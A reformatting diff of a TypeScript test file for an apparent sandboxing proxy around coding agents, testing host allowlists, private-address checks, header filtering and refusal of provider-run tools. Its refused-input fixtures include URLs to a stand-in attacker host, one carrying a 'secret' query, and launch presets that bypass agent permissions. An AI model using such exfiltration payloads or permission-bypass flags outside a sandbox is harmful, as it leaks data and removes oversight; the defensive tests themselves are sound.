@@ -6,7 +6,14 @@ import { ProjectMetadataSchema } from '../../src/config/metadata.js';
 import { checkOperatorConfig } from '../../src/config/operator-checks.js';
 import { createBodyBudget } from '../../src/outbound/body-budget.js';
 import { createBudgets } from '../../src/outbound/budget.js';
-import { findProviderRun, forwardedHeaders, methodOf, parseGatewayPath, parseModelBody, returnedHeaders } from '../../src/outbound/model-request.js';
+import {
+  findProviderRun,
+  forwardedHeaders,
+  methodOf,
+  parseGatewayPath,
+  parseModelBody,
+  returnedHeaders,
+} from '../../src/outbound/model-request.js';
 import { isPrivateAddress } from '../../src/outbound/addresses.js';
 import { usageTap } from '../../src/outbound/usage.js';
 import { agentArgv, presetOwnHost } from '../../src/plan/agent-command.js';
@@ -32,7 +39,8 @@ describe('egress allowlist matching', () => {
 
   it('patterns are host names, never URLs, IP ranges or bare wildcards', () => {
     for (const ok of ['a.b', '*.b.c', 'x:443', 'localhost']) expect(HostPatternSchema.safeParse(ok).success, ok).toBe(true);
-    for (const bad of ['*', '*.', 'https://a.b', 'a.b/path', '10.0.0.0/8', 'A.B', 'a..b', 'a.b:0', 'a.b:70000', '*.*.b', 'a b']) expect(HostPatternSchema.safeParse(bad).success, bad).toBe(false);
+    for (const bad of ['*', '*.', 'https://a.b', 'a.b/path', '10.0.0.0/8', 'A.B', 'a..b', 'a.b:0', 'a.b:70000', '*.*.b', 'a b'])
+      expect(HostPatternSchema.safeParse(bad).success, bad).toBe(false);
   });
 
   it('model patterns: "*" is any run of characters, the rest literal', () => {
@@ -43,7 +51,20 @@ describe('egress allowlist matching', () => {
 });
 
 describe('private addresses (the proxy never connects to these unless the operator names the host)', () => {
-  it.each(['127.0.0.1', '10.1.2.3', '172.20.0.1', '192.168.1.1', '169.254.169.254', '100.64.0.1', '0.0.0.0', '::1', '::ffff:127.0.0.1', 'fe80::1', 'fd00::1', 'not-an-ip'])('%s is private', (a) => {
+  it.each([
+    '127.0.0.1',
+    '10.1.2.3',
+    '172.20.0.1',
+    '192.168.1.1',
+    '169.254.169.254',
+    '100.64.0.1',
+    '0.0.0.0',
+    '::1',
+    '::ffff:127.0.0.1',
+    'fe80::1',
+    'fd00::1',
+    'not-an-ip',
+  ])('%s is private', (a) => {
     expect(isPrivateAddress(a)).toBe(true);
   });
   it.each(['1.1.1.1', '151.101.0.1', '2a04:4e42::1'])('%s is public', (a) => {
@@ -134,7 +155,17 @@ describe('model gateway requests (pure): path, method, headers, body', () => {
   });
 
   it('each endpoint takes one method: model calls POST, listings GET, nothing else is forwarded', () => {
-    const table = ['/v1/messages', '/v1/messages/count_tokens', '/v1/models', '/v1/models/x', '/v1/messages/batches', '/v1/files', '/v1/responses', '/v1/chat/completions', '/v1/embeddings'].map((p) => [p, methodOf('anthropic', p), methodOf('openai', p)]);
+    const table = [
+      '/v1/messages',
+      '/v1/messages/count_tokens',
+      '/v1/models',
+      '/v1/models/x',
+      '/v1/messages/batches',
+      '/v1/files',
+      '/v1/responses',
+      '/v1/chat/completions',
+      '/v1/embeddings',
+    ].map((p) => [p, methodOf('anthropic', p), methodOf('openai', p)]);
     expect(table).toEqual([
       ['/v1/messages', 'POST', undefined],
       ['/v1/messages/count_tokens', 'POST', undefined],
@@ -164,27 +195,66 @@ describe('model gateway requests (pure): path, method, headers, body', () => {
       'x-stainless-os': 'Linux',
       'set-cookie': ['a', 'b'],
     };
-    expect(forwardedHeaders('anthropic', sent)).toEqual({ 'content-type': 'application/json', accept: 'text/event-stream', 'user-agent': 'claude-cli/2', 'anthropic-version': '2023-06-01', 'anthropic-beta': 'claude-code-20250219' });
-    expect(forwardedHeaders('openai', sent)).toEqual({ 'content-type': 'application/json', accept: 'text/event-stream', 'user-agent': 'claude-cli/2' });
+    expect(forwardedHeaders('anthropic', sent)).toEqual({
+      'content-type': 'application/json',
+      accept: 'text/event-stream',
+      'user-agent': 'claude-cli/2',
+      'anthropic-version': '2023-06-01',
+      'anthropic-beta': 'claude-code-20250219',
+    });
+    expect(forwardedHeaders('openai', sent)).toEqual({
+      'content-type': 'application/json',
+      accept: 'text/event-stream',
+      'user-agent': 'claude-cli/2',
+    });
   });
 
   it('the body sent on is the parsed one, serialized again: one "model", the one berth checked', () => {
     const body = (s: string) => Buffer.from(s);
-    expect(parseModelBody('openai', '/v1/responses', body('{"model":"expensive","input":[],"model":"cheap"}'), DEPTH)).toEqual({ ok: true, model: 'cheap', json: '{"model":"cheap","input":[]}' });
-    expect(parseModelBody('anthropic', '/v1/messages', body('{ "model" : "m",\n "messages": [{"role":"user","role":"assistant"}] }'), DEPTH)).toEqual({ ok: true, model: 'm', json: '{"model":"m","messages":[{"role":"assistant"}]}' });
+    expect(parseModelBody('openai', '/v1/responses', body('{"model":"expensive","input":[],"model":"cheap"}'), DEPTH)).toEqual({
+      ok: true,
+      model: 'cheap',
+      json: '{"model":"cheap","input":[]}',
+    });
+    expect(
+      parseModelBody('anthropic', '/v1/messages', body('{ "model" : "m",\n "messages": [{"role":"user","role":"assistant"}] }'), DEPTH),
+    ).toEqual({ ok: true, model: 'm', json: '{"model":"m","messages":[{"role":"assistant"}]}' });
     // "__proto__" stays a plain key (JSON.parse makes it an own property): nothing is polluted, nothing dropped.
     const proto = parseModelBody('anthropic', '/v1/messages', body('{"model":"m","__proto__":{"x":1}}'), DEPTH);
     expect(proto).toEqual({ ok: true, model: 'm', json: '{"model":"m","__proto__":{"x":1}}' });
     expect(({} as Record<string, unknown>).x).toBeUndefined();
-    for (const bad of ['', 'null', '"m"', '[{"model":"m"}]', '{"model":1}', '{"Model":"m"}', '{"model":"m"} {"model":"n"}', '{"model":"m",}', '\ufeff{"model":"m"}']) {
-      expect(parseModelBody('anthropic', '/v1/messages', body(bad), DEPTH), bad).toEqual({ ok: false, reason: 'a model call is one JSON object naming its "model"' });
+    for (const bad of [
+      '',
+      'null',
+      '"m"',
+      '[{"model":"m"}]',
+      '{"model":1}',
+      '{"Model":"m"}',
+      '{"model":"m"} {"model":"n"}',
+      '{"model":"m",}',
+      '\ufeff{"model":"m"}',
+    ]) {
+      expect(parseModelBody('anthropic', '/v1/messages', body(bad), DEPTH), bad).toEqual({
+        ok: false,
+        reason: 'a model call is one JSON object naming its "model"',
+      });
     }
   });
 
   it('an OpenAI chat stream asks for usage (so it is counted); other calls are not changed', () => {
-    expect(parseModelBody('openai', '/v1/chat/completions', Buffer.from('{"model":"m","stream":true,"stream_options":{"x":1}}'), DEPTH)).toEqual({ ok: true, model: 'm', json: '{"model":"m","stream":true,"stream_options":{"x":1,"include_usage":true}}' });
-    expect(parseModelBody('openai', '/v1/chat/completions', Buffer.from('{"model":"m"}'), DEPTH)).toEqual({ ok: true, model: 'm', json: '{"model":"m"}' });
-    expect(parseModelBody('anthropic', '/v1/messages', Buffer.from('{"model":"m","stream":true}'), DEPTH)).toEqual({ ok: true, model: 'm', json: '{"model":"m","stream":true}' });
+    expect(
+      parseModelBody('openai', '/v1/chat/completions', Buffer.from('{"model":"m","stream":true,"stream_options":{"x":1}}'), DEPTH),
+    ).toEqual({ ok: true, model: 'm', json: '{"model":"m","stream":true,"stream_options":{"x":1,"include_usage":true}}' });
+    expect(parseModelBody('openai', '/v1/chat/completions', Buffer.from('{"model":"m"}'), DEPTH)).toEqual({
+      ok: true,
+      model: 'm',
+      json: '{"model":"m"}',
+    });
+    expect(parseModelBody('anthropic', '/v1/messages', Buffer.from('{"model":"m","stream":true}'), DEPTH)).toEqual({
+      ok: true,
+      model: 'm',
+      json: '{"model":"m","stream":true}',
+    });
   });
 });
 
@@ -206,15 +276,42 @@ describe('model gateway requests (pure): only tools the agent runs in its sandbo
     messages: [
       { role: 'user', content: [{ type: 'text', text: 'BASH: ls' }] },
       // A tool's input is the model's own JSON: a "source" in it is not an input the provider fetches.
-      { role: 'assistant', content: [{ type: 'thinking', thinking: '', signature: 'x' }, { type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command: 'ls', source: { type: 'url', url: 'https://example.com/' } } }] },
-      { role: 'user', content: [{ type: 'tool_result', tool_use_id: 'toolu_1', content: [{ type: 'text', text: 'a.txt' }, { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBOR' } }] }] },
+      {
+        role: 'assistant',
+        content: [
+          { type: 'thinking', thinking: '', signature: 'x' },
+          { type: 'tool_use', id: 'toolu_1', name: 'Bash', input: { command: 'ls', source: { type: 'url', url: 'https://example.com/' } } },
+        ],
+      },
+      {
+        role: 'user',
+        content: [
+          {
+            type: 'tool_result',
+            tool_use_id: 'toolu_1',
+            content: [
+              { type: 'text', text: 'a.txt' },
+              { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBOR' } },
+            ],
+          },
+        ],
+      },
     ],
   };
   /** What Codex 0.169.0 sends (measured: no tools at all), with the client tool types Codex can add. */
   const codex = {
     model: 'gpt-6.1-sol',
     stream: true,
-    input: [{ type: 'message', role: 'user', content: [{ type: 'input_text', text: 'hi' }, { type: 'input_image', image_url: 'data:image/png;base64,iVBOR' }] }],
+    input: [
+      {
+        type: 'message',
+        role: 'user',
+        content: [
+          { type: 'input_text', text: 'hi' },
+          { type: 'input_image', image_url: 'data:image/png;base64,iVBOR' },
+        ],
+      },
+    ],
     tool_choice: 'auto',
     parallel_tool_calls: false,
     reasoning: { effort: 'low' },
@@ -234,17 +331,47 @@ describe('model gateway requests (pure): only tools the agent runs in its sandbo
 
   it.each([
     ['Claude Code', 'anthropic', claudeCode],
-    ['Anthropic client built-ins and custom tools', 'anthropic', { tools: [{ type: 'bash_20250124', name: 'bash' }, { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' }, { type: 'computer_20251124', name: 'computer' }, { type: 'memory_20250818', name: 'memory' }, { type: 'custom', name: 'f', input_schema: {} }] }],
+    [
+      'Anthropic client built-ins and custom tools',
+      'anthropic',
+      {
+        tools: [
+          { type: 'bash_20250124', name: 'bash' },
+          { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool' },
+          { type: 'computer_20251124', name: 'computer' },
+          { type: 'memory_20250818', name: 'memory' },
+          { type: 'custom', name: 'f', input_schema: {} },
+        ],
+      },
+    ],
     ['empty or switched-off fields', 'anthropic', { mcp_servers: [], container: null, tools: [] }],
     ['Codex', 'openai', codex],
-    ['a chat call with function tools and an inline image', 'openai', { messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'DATA:image/png;base64,iVBOR' } }] }], tools: [{ type: 'function', function: { name: 'f' } }], background: false }],
+    [
+      'a chat call with function tools and an inline image',
+      'openai',
+      {
+        messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url: 'DATA:image/png;base64,iVBOR' } }] }],
+        tools: [{ type: 'function', function: { name: 'f' } }],
+        background: false,
+      },
+    ],
     ['stored state', 'openai', { input: 'hi', store: true, previous_response_id: 'resp_1' }],
   ] as const)('%s passes', (_name, api, body) => {
     expect(findProviderRun(api, body)).toBeUndefined();
   });
 
   it.each([
-    ['openai', { tools: [{ type: 'function', name: 'f' }, { type: 'custom', name: 'g' }, { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' }] }, 'tools[2].type "mcp" is not one berth forwards'],
+    [
+      'openai',
+      {
+        tools: [
+          { type: 'function', name: 'f' },
+          { type: 'custom', name: 'g' },
+          { type: 'mcp', server_label: 'x', server_url: 'https://attacker.example/mcp' },
+        ],
+      },
+      'tools[2].type "mcp" is not one berth forwards',
+    ],
     ['openai', { tools: [{ type: 'web_search' }] }, 'tools[0].type "web_search" is not one'],
     ['openai', { tools: [{ type: 'web_search_preview' }] }, 'tools[0].type "web_search_preview" is not one'],
     ['openai', { tools: [{ type: 'file_search', vector_store_ids: ['vs_1'] }] }, 'tools[0].type "file_search" is not one'],
@@ -253,51 +380,182 @@ describe('model gateway requests (pure): only tools the agent runs in its sandbo
     ['openai', { tools: [{ type: 'image_generation' }] }, 'tools[0].type "image_generation" is not one'],
     ['openai', { tools: [{ type: 'shell', environment: { type: 'container_auto' } }] }, 'tools[0].type "shell" is not one'],
     ['openai', { tools: [{ type: 'tool_search' }] }, 'tools[0].type "tool_search" is not one'],
-    ['openai', { tools: [{ type: 'namespace', name: 'n', tools: [{ type: 'function', name: 'f' }, { type: 'mcp', server_url: 'https://attacker.example' }] }] }, 'tools[0].tools[1].type "mcp" is not one'],
-    ['openai', { tools: [{ type: 'namespace', name: 'n', tools: [{ type: 'namespace', name: 'm', tools: [] }] }] }, 'tools[0].tools[0].type "namespace" is not one'],
+    [
+      'openai',
+      {
+        tools: [
+          {
+            type: 'namespace',
+            name: 'n',
+            tools: [
+              { type: 'function', name: 'f' },
+              { type: 'mcp', server_url: 'https://attacker.example' },
+            ],
+          },
+        ],
+      },
+      'tools[0].tools[1].type "mcp" is not one',
+    ],
+    [
+      'openai',
+      { tools: [{ type: 'namespace', name: 'n', tools: [{ type: 'namespace', name: 'm', tools: [] }] }] },
+      'tools[0].tools[0].type "namespace" is not one',
+    ],
     ['openai', { tools: [{ name: 'f' }] }, 'tools[0].type (none) is not one'],
     ['openai', { tools: { type: 'function' } }, 'tools is a list of tool definitions'],
     ['openai', { tools: ['function'] }, 'tools[0] is not a tool definition'],
     ['openai', { background: true }, 'background: '],
     ['openai', { web_search_options: {} }, 'web_search_options: '],
-    ['openai', { input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/p.png?d=secret' }] }] }, 'input[0].content[0].image_url: '],
-    ['openai', { input: [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/f.pdf' }] }] }, 'input[0].content[0].file_url: '],
-    ['openai', { input: [{ type: 'function_call_output', call_id: 'c', output: [{ type: 'input_image', image_url: 'http://attacker.example/' }] }] }, 'input[0].output[0].image_url: '],
-    ['openai', { messages: [{ role: 'user', content: [{ type: 'text', text: 'x' }, { type: 'image_url', image_url: { url: 'https://attacker.example/p.png' } }] }] }, 'messages[0].content[1].image_url.url: '],
-    ['anthropic', { tools: [{ name: 'Bash', input_schema: {} }, { type: 'web_search_20250305', name: 'web_search' }] }, 'tools[1].type "web_search_20250305" is not one'],
+    [
+      'openai',
+      { input: [{ role: 'user', content: [{ type: 'input_image', image_url: 'https://attacker.example/p.png?d=secret' }] }] },
+      'input[0].content[0].image_url: ',
+    ],
+    [
+      'openai',
+      { input: [{ role: 'user', content: [{ type: 'input_file', file_url: 'https://attacker.example/f.pdf' }] }] },
+      'input[0].content[0].file_url: ',
+    ],
+    [
+      'openai',
+      { input: [{ type: 'function_call_output', call_id: 'c', output: [{ type: 'input_image', image_url: 'http://attacker.example/' }] }] },
+      'input[0].output[0].image_url: ',
+    ],
+    [
+      'openai',
+      {
+        messages: [
+          {
+            role: 'user',
+            content: [
+              { type: 'text', text: 'x' },
+              { type: 'image_url', image_url: { url: 'https://attacker.example/p.png' } },
+            ],
+          },
+        ],
+      },
+      'messages[0].content[1].image_url.url: ',
+    ],
+    [
+      'anthropic',
+      {
+        tools: [
+          { name: 'Bash', input_schema: {} },
+          { type: 'web_search_20250305', name: 'web_search' },
+        ],
+      },
+      'tools[1].type "web_search_20250305" is not one',
+    ],
     ['anthropic', { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }, 'tools[0].type "web_fetch_20250910" is not one'],
-    ['anthropic', { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] }, 'tools[0].type "code_execution_20250825" is not one'],
-    ['anthropic', { tools: [{ type: 'tool_search_tool_regex_20251119', name: 'tool_search' }] }, 'tools[0].type "tool_search_tool_regex_20251119" is not one'],
+    [
+      'anthropic',
+      { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
+      'tools[0].type "code_execution_20250825" is not one',
+    ],
+    [
+      'anthropic',
+      { tools: [{ type: 'tool_search_tool_regex_20251119', name: 'tool_search' }] },
+      'tools[0].type "tool_search_tool_regex_20251119" is not one',
+    ],
     ['anthropic', { tools: [{ type: 'mcp_toolset', mcp_server_name: 'x' }] }, 'tools[0].type "mcp_toolset" is not one'],
     ['anthropic', { tools: [{ type: 'advisor_20260301', name: 'advisor' }] }, 'tools[0].type "advisor_20260301" is not one'],
-    ['anthropic', { tools: [{ type: 'bash_code_execution_20250825', name: 'bash' }] }, 'tools[0].type "bash_code_execution_20250825" is not one'],
+    [
+      'anthropic',
+      { tools: [{ type: 'bash_code_execution_20250825', name: 'bash' }] },
+      'tools[0].type "bash_code_execution_20250825" is not one',
+    ],
     ['anthropic', { tools: [{ type: null, name: 'f' }] }, 'tools[0].type null is not one'],
     ['anthropic', { mcp_servers: [{ type: 'url', url: 'https://attacker.example/mcp', name: 'x' }] }, 'mcp_servers: '],
     ['anthropic', { container: 'container_1' }, 'container: '],
-    ['anthropic', { messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/p.png?d=secret' } }] }] }, 'messages[0].content[0].source: '],
-    ['anthropic', { messages: [{ role: 'user', content: [{ type: 'tool_result', tool_use_id: 't', content: [{ type: 'text', text: 'x' }, { type: 'document', source: { type: 'url', url: 'https://attacker.example/d.pdf' } }] }] }] }, 'messages[0].content[0].content[1].source: '],
-    ['anthropic', { system: [{ type: 'text', text: 'x' }, { type: 'image', source: { type: 'url', url: 'https://attacker.example/' } }] }, 'system[1].source: '],
+    [
+      'anthropic',
+      {
+        messages: [{ role: 'user', content: [{ type: 'image', source: { type: 'url', url: 'https://attacker.example/p.png?d=secret' } }] }],
+      },
+      'messages[0].content[0].source: ',
+    ],
+    [
+      'anthropic',
+      {
+        messages: [
+          {
+            role: 'user',
+            content: [
+              {
+                type: 'tool_result',
+                tool_use_id: 't',
+                content: [
+                  { type: 'text', text: 'x' },
+                  { type: 'document', source: { type: 'url', url: 'https://attacker.example/d.pdf' } },
+                ],
+              },
+            ],
+          },
+        ],
+      },
+      'messages[0].content[0].content[1].source: ',
+    ],
+    [
+      'anthropic',
+      {
+        system: [
+          { type: 'text', text: 'x' },
+          { type: 'image', source: { type: 'url', url: 'https://attacker.example/' } },
+        ],
+      },
+      'system[1].source: ',
+    ],
   ] as const)('%s %j is refused: %s', (api, body, reason) => {
     expect(findProviderRun(api, body)?.slice(0, reason.length)).toBe(reason);
   });
 
   it('the refusal names the field and says why, and parseModelBody refuses the call', () => {
-    const body = Buffer.from(JSON.stringify({ model: 'gpt-x', input: 'hi', tools: [{ type: 'function', name: 'f' }, { type: 'function', name: 'g' }, { type: 'mcp', server_url: 'https://attacker.example/mcp' }] }));
-    const reason = 'tools[2].type "mcp" is not one berth forwards: berth allows only tools the agent runs in its sandbox (function, custom, local_shell, apply_patch, namespace), none the provider runs';
+    const body = Buffer.from(
+      JSON.stringify({
+        model: 'gpt-x',
+        input: 'hi',
+        tools: [
+          { type: 'function', name: 'f' },
+          { type: 'function', name: 'g' },
+          { type: 'mcp', server_url: 'https://attacker.example/mcp' },
+        ],
+      }),
+    );
+    const reason =
+      'tools[2].type "mcp" is not one berth forwards: berth allows only tools the agent runs in its sandbox (function, custom, local_shell, apply_patch, namespace), none the provider runs';
     expect(findProviderRun('openai', JSON.parse(body.toString()))).toBe(reason);
     expect(parseModelBody('openai', '/v1/responses', body, DEPTH)).toEqual({ ok: false, reason });
-    expect(findProviderRun('anthropic', { tools: [{ type: 'web_search_20250305' }] })).toBe('tools[0].type "web_search_20250305" is not one berth forwards: berth allows only tools the agent runs in its sandbox (no type, custom, bash_*, text_editor_*, computer_*, memory_*), none the provider runs');
-    expect(findProviderRun('openai', { background: true })).toBe('background: a background response is fetched later, with no usage berth can count against the budget');
+    expect(findProviderRun('anthropic', { tools: [{ type: 'web_search_20250305' }] })).toBe(
+      'tools[0].type "web_search_20250305" is not one berth forwards: berth allows only tools the agent runs in its sandbox (no type, custom, bash_*, text_editor_*, computer_*, memory_*), none the provider runs',
+    );
+    expect(findProviderRun('openai', { background: true })).toBe(
+      'background: a background response is fetched later, with no usage berth can count against the budget',
+    );
   });
 
   it.each([
     // Claude Code 2.1.330, measured: every value passes unchanged.
-    ['claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24', 'claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24'],
-    ['claude-code-20250219, mcp-client-2025-11-20,files-api-2025-04-14 ,interleaved-thinking-2025-05-14', 'claude-code-20250219,interleaved-thinking-2025-05-14'],
-    ['fine-grained-tool-streaming-2025-05-14,token-efficient-tools-2025-02-19,prompt-caching-2024-07-31,context-1m-2025-08-07,token-counting-2024-11-01', 'fine-grained-tool-streaming-2025-05-14,token-efficient-tools-2025-02-19,prompt-caching-2024-07-31,context-1m-2025-08-07,token-counting-2024-11-01'],
+    [
+      'claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24',
+      'claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24',
+    ],
+    [
+      'claude-code-20250219, mcp-client-2025-11-20,files-api-2025-04-14 ,interleaved-thinking-2025-05-14',
+      'claude-code-20250219,interleaved-thinking-2025-05-14',
+    ],
+    [
+      'fine-grained-tool-streaming-2025-05-14,token-efficient-tools-2025-02-19,prompt-caching-2024-07-31,context-1m-2025-08-07,token-counting-2024-11-01',
+      'fine-grained-tool-streaming-2025-05-14,token-efficient-tools-2025-02-19,prompt-caching-2024-07-31,context-1m-2025-08-07,token-counting-2024-11-01',
+    ],
     ['mcp-servers-2025-12-04', undefined],
-    ['web-search-2025-03-05,web-fetch-2025-09-10,code-execution-2025-08-25,skills-2025-10-02,advisor-tool-2026-03-01,computer-use-2025-01-24', undefined],
-    ['server-side-fallback-2026-06-01,fast-mode-2026-02-01,oauth-2025-04-20,managed-agents-2026-04-01,fallback-credit-2026-06-01', undefined],
+    [
+      'web-search-2025-03-05,web-fetch-2025-09-10,code-execution-2025-08-25,skills-2025-10-02,advisor-tool-2026-03-01,computer-use-2025-01-24',
+      undefined,
+    ],
+    [
+      'server-side-fallback-2026-06-01,fast-mode-2026-02-01,oauth-2025-04-20,managed-agents-2026-04-01,fallback-credit-2026-06-01',
+      undefined,
+    ],
     ['claude-code-evil-2025-01-01,claude-code-20250219x,CLAUDE-CODE-20250219,prompt-caching-scope-2026-01-05,,', undefined],
   ])('anthropic-beta %s → %s', (sent, kept) => {
     expect(forwardedHeaders('anthropic', { 'anthropic-beta': sent })['anthropic-beta']).toBe(kept);
@@ -319,7 +577,13 @@ describe('model gateway requests (pure): only tools the agent runs in its sandbo
       connection: 'keep-alive',
       'transfer-encoding': 'chunked',
     };
-    expect(returnedHeaders(answer)).toEqual({ 'content-type': 'text/event-stream', 'request-id': 'req_1', 'x-request-id': 'req_2', 'retry-after': '3', 'x-should-retry': 'false' });
+    expect(returnedHeaders(answer)).toEqual({
+      'content-type': 'text/event-stream',
+      'request-id': 'req_1',
+      'x-request-id': 'req_2',
+      'retry-after': '3',
+      'x-should-retry': 'false',
+    });
   });
 
   it('a body nested deeper than the bound is refused, however deep (it used to overflow the stack while being re-serialized)', () => {
@@ -353,13 +617,23 @@ describe('buffered body budget (per tenant, per process)', () => {
 });
 
 describe('outbound plan (pure)', () => {
-  const config = BerthConfigSchema.parse({ models: { anthropic: { api: 'anthropic', url: 'https://api.anthropic.com', api_key: 'sk-real' }, oai: { api: 'openai', url: 'https://api.openai.com', api_key: 'sk-oai' } } });
+  const config = BerthConfigSchema.parse({
+    models: {
+      anthropic: { api: 'anthropic', url: 'https://api.anthropic.com', api_key: 'sk-real' },
+      oai: { api: 'openai', url: 'https://api.openai.com', api_key: 'sk-oai' },
+    },
+  });
   const meta = (models: unknown) => ProjectMetadataSchema.parse({ name: 'p', models });
 
   it('low: gateway and model sockets, the placeholder key, no proxy; the real key appears nowhere', () => {
     const plan = planOutbound({ config, metadata: meta({ upstreams: ['anthropic', 'oai'] }), agentRun: true, egress: false }, '/run/berth');
     expect(plan.sockets).toEqual(['gateway', 'model']);
-    expect(plan.env).toMatchObject({ ANTHROPIC_BASE_URL: 'http://127.0.0.1:41400/anthropic', ANTHROPIC_API_KEY: KEY_PLACEHOLDER, OPENAI_BASE_URL: 'http://127.0.0.1:41400/oai/v1', OPENAI_API_KEY: KEY_PLACEHOLDER });
+    expect(plan.env).toMatchObject({
+      ANTHROPIC_BASE_URL: 'http://127.0.0.1:41400/anthropic',
+      ANTHROPIC_API_KEY: KEY_PLACEHOLDER,
+      OPENAI_BASE_URL: 'http://127.0.0.1:41400/oai/v1',
+      OPENAI_API_KEY: KEY_PLACEHOLDER,
+    });
     expect(plan.env.HTTPS_PROXY).toBeUndefined();
     expect(JSON.stringify(plan)).not.toMatch(/sk-real|sk-oai/);
   });
@@ -372,20 +646,64 @@ describe('outbound plan (pure)', () => {
   });
 
   it('berth-bridge starts the relays before the agent; no relay, no wrapper', () => {
-    expect(withRelays(['claude', '-p'], ['gateway', 'model', 'egress'], '/run/berth')).toEqual(['berth-bridge', 'relay', '41400=/run/berth/model.sock', '41401=/run/berth/egress.sock', '--', 'claude', '-p']);
+    expect(withRelays(['claude', '-p'], ['gateway', 'model', 'egress'], '/run/berth')).toEqual([
+      'berth-bridge',
+      'relay',
+      '41400=/run/berth/model.sock',
+      '41401=/run/berth/egress.sock',
+      '--',
+      'claude',
+      '-p',
+    ]);
     expect(withRelays(['sh'], ['gateway'], '/run/berth')).toEqual(['sh']);
   });
 
   it("presets continue the session's conversation; codex is told where berth's gateway is, with its plugins and analytics off", () => {
-    expect(agentArgv('claude', 'hi')).toEqual(['claude', '-p', '--output-format', 'stream-json', '--verbose', '--dangerously-skip-permissions', '--continue', '--', 'hi']);
-    expect(agentArgv('codex', 'hi', { openaiBaseUrl: 'http://127.0.0.1:41400/oai/v1' })).toEqual([
-      'codex', 'exec', 'resume', '--last',
-      '-c', 'model_providers.berth={name="berth",base_url="http://127.0.0.1:41400/oai/v1",env_key="OPENAI_API_KEY",wire_api="responses",supports_websockets=false}',
-      '-c', 'model_provider=berth',
-      '-c', 'features.plugins=false', '-c', 'analytics.enabled=false',
-      '--json', '--dangerously-bypass-approvals-and-sandbox', '--skip-git-repo-check', '--', 'hi',
+    expect(agentArgv('claude', 'hi')).toEqual([
+      'claude',
+      '-p',
+      '--output-format',
+      'stream-json',
+      '--verbose',
+      '--dangerously-skip-permissions',
+      '--continue',
+      '--',
+      'hi',
     ]);
-    expect(agentArgv('codex', 'hi')).toEqual(['codex', 'exec', 'resume', '--last', '-c', 'features.plugins=false', '-c', 'analytics.enabled=false', '--json', '--dangerously-bypass-approvals-and-sandbox', '--skip-git-repo-check', '--', 'hi']);
+    expect(agentArgv('codex', 'hi', { openaiBaseUrl: 'http://127.0.0.1:41400/oai/v1' })).toEqual([
+      'codex',
+      'exec',
+      'resume',
+      '--last',
+      '-c',
+      'model_providers.berth={name="berth",base_url="http://127.0.0.1:41400/oai/v1",env_key="OPENAI_API_KEY",wire_api="responses",supports_websockets=false}',
+      '-c',
+      'model_provider=berth',
+      '-c',
+      'features.plugins=false',
+      '-c',
+      'analytics.enabled=false',
+      '--json',
+      '--dangerously-bypass-approvals-and-sandbox',
+      '--skip-git-repo-check',
+      '--',
+      'hi',
+    ]);
+    expect(agentArgv('codex', 'hi')).toEqual([
+      'codex',
+      'exec',
+      'resume',
+      '--last',
+      '-c',
+      'features.plugins=false',
+      '-c',
+      'analytics.enabled=false',
+      '--json',
+      '--dangerously-bypass-approvals-and-sandbox',
+      '--skip-git-repo-check',
+      '--',
+      'hi',
+    ]);
     expect(agentArgv('shell', 'echo')).toEqual(['sh', '-c', '--', 'echo']);
   });
 
@@ -401,8 +719,15 @@ describe('outbound plan (pure)', () => {
 
 describe("operator check: a model key in berth.yaml's env (which containers get) is refused", () => {
   it('by name, by value, or with the key inside the value', () => {
-    const config = BerthConfigSchema.parse({ env: { ANTHROPIC_API_KEY: 'x', OTHER: 'sk-real', WRAPPED: 'Bearer sk-real\n', FINE: 'ok' }, models: { a: { api: 'anthropic', url: 'https://api.anthropic.com', api_key: 'sk-real' } } });
-    expect(checkOperatorConfig(config, '/tmp').map((i) => i.field).sort()).toEqual(['env.ANTHROPIC_API_KEY', 'env.OTHER', 'env.WRAPPED']);
+    const config = BerthConfigSchema.parse({
+      env: { ANTHROPIC_API_KEY: 'x', OTHER: 'sk-real', WRAPPED: 'Bearer sk-real\n', FINE: 'ok' },
+      models: { a: { api: 'anthropic', url: 'https://api.anthropic.com', api_key: 'sk-real' } },
+    });
+    expect(
+      checkOperatorConfig(config, '/tmp')
+        .map((i) => i.field)
+        .sort(),
+    ).toEqual(['env.ANTHROPIC_API_KEY', 'env.OTHER', 'env.WRAPPED']);
   });
 });
 
